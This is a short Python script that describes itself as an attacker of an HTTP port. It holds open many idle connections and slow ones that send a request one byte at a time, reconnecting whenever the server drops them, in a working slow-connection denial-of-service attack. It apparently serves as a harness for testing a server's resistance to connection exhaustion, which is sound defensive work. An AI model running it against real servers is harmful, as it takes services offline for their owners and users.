"""An attacker of an HTTP port: opens IDLE connections that send nothing and SLOW ones that send
a request one byte at a time, keeps them open (reconnecting those the server closes) until its
stdin closes. Prints "ready" once they are all open, then how many it holds when asked ("count").

    python flood_app.py HOST PORT IDLE SLOW
"""

import resource
import socket
import sys
import threading
import time

host, port, idle, slow = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
resource.setrlimit(resource.RLIMIT_NOFILE, (idle + slow + 256, idle + slow + 256))
held: list[socket.socket] = []
refused = 0
for i in range(idle + slow):
    s = socket.socket()
    s.settimeout(1.0)
    try:
        s.connect((host, port))
    except OSError:        # a server out of file descriptors leaves connections in its backlog
        refused += 1
    held.append(s)
print("ready", refused, flush=True)
stop = threading.Event()


def drip():
    payload = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 100000
    i = 0
    while not stop.is_set():
        for n, s in enumerate(held[idle:]):
            try:
                s.send(payload[i % len(payload):i % len(payload) + 1])
            except OSError:          # closed by the server: come back
                try:
                    c = socket.socket()
                    c.connect((host, port))
                    held[idle + n] = c
                except OSError:
                    pass
        i += 1
        time.sleep(0.2)


threading.Thread(target=drip, daemon=True).start()
for line in sys.stdin:
    if line.strip() == "count":
        print(len(held), flush=True)
stop.set()
